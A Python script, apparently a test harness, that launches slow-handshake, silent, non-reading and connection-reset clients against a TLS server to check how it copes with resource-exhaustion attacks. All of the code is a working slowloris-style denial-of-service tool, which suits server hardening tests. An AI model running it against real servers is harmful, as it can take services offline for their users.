#!/usr/bin/python3 -B
"""Clients that mean no good, in a process of their own: attack.py HOST PORT CA JSON, where JSON says how many of each kind.
Prints "ready" when all are there; ends what it repeats at the first line of input, and itself at the end of it."""
import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(range(256)) * 2
RESET = struct.pack("ii", 1, 0)


def connect(address, receive_buffer=None):
    sock = socket.socket()
    if receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.connect(address)
    return sock


class Attack:
    def __init__(self, address, ca_file, sizes):
        self.address, self.sizes = address, sizes
        self.context = ssl.create_default_context(cafile=ca_file)
        self.held = []  # who says nothing, or reads nothing
        self.slow = []  # [socket, bytes still to be dribbled]
        self.resets = 0

    def secure(self, receive_buffer=None):
        sock = self.context.wrap_socket(connect(self.address, receive_buffer), server_hostname="localhost")
        sock.setblocking(False)
        return sock

    def reset(self):
        try:
            sock = connect(self.address)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            sock.send(HELLO[: self.resets % 200])
            sock.close()
        except OSError:
            pass
        self.resets += 1

    def say_without_reading(self):
        sock = self.secure(receive_buffer=4096)
        try:
            while True:
                sock.send((b"x" * 98 + b"\r\n") * 160)
        except (ssl.SSLError, OSError):
            pass
        self.held.append(sock)

    def begin(self):
        for _ in range(self.sizes["open"]):  # with its handshake done, in the middle of a message
            self.slow.append([self.secure(), None])
        for _ in range(self.sizes["not_reading"]):
            self.say_without_reading()
        for _ in range(self.sizes["greeting"]):  # in the middle of its handshake
            self.slow.append([connect(self.address), HELLO])
        for _ in range(self.sizes["silent"]):
            self.held.append(connect(self.address))

    def dribble(self):
        going = []
        for one in self.slow:
            try:
                one[0].send(one[1][:1] if one[1] else b"a")
                one[1] = one[1] and one[1][1:]
                going.append(one)
            except (ssl.SSLError, OSError):
                one[0].close()
        self.slow = going

    def run(self):
        """A byte a second of each, and the resets in between."""
        each, stopped = 50, False
        while True:
            begun = time.monotonic()
            self.dribble()
            for step in range(each):
                for _ in range(0 if stopped else self.sizes["resets"] // each):
                    self.reset()
                rest = begun + (step + 1) / each - time.monotonic()
                if select.select([sys.stdin], [], [], max(rest, 0))[0]:
                    if not sys.stdin.readline():
                        return
                    stopped = True
                    print(json.dumps({"resets": self.resets}), flush=True)


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(10)  # it would be on other machines
    attack = Attack((sys.argv[1], int(sys.argv[2])), sys.argv[3], json.loads(sys.argv[4]))
    attack.begin()
    print("ready", flush=True)
    attack.run()


if __name__ == "__main__":
    main()
